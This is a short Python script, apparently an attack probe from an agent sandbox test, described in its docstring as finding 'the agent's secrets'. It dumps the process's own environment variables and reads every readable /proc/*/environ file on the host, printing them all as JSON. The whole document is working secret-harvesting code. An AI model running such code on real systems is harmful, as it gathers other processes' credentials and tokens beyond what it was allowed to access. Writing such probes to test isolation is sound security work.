"""Attack: find the agent's secrets in the environment: this process's and
every /proc/*/environ it can read.

Prints one JSON object: {"env": {...}, "proc": {pid: environ or "unreadable"}}.
"""
import json
import os

proc = {}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            proc[pid] = open("/proc/%s/environ" % pid, "rb").read().decode("utf-8", "replace")
        except OSError:
            proc[pid] = "unreadable"
print(json.dumps({"env": dict(os.environ), "proc": proc}))
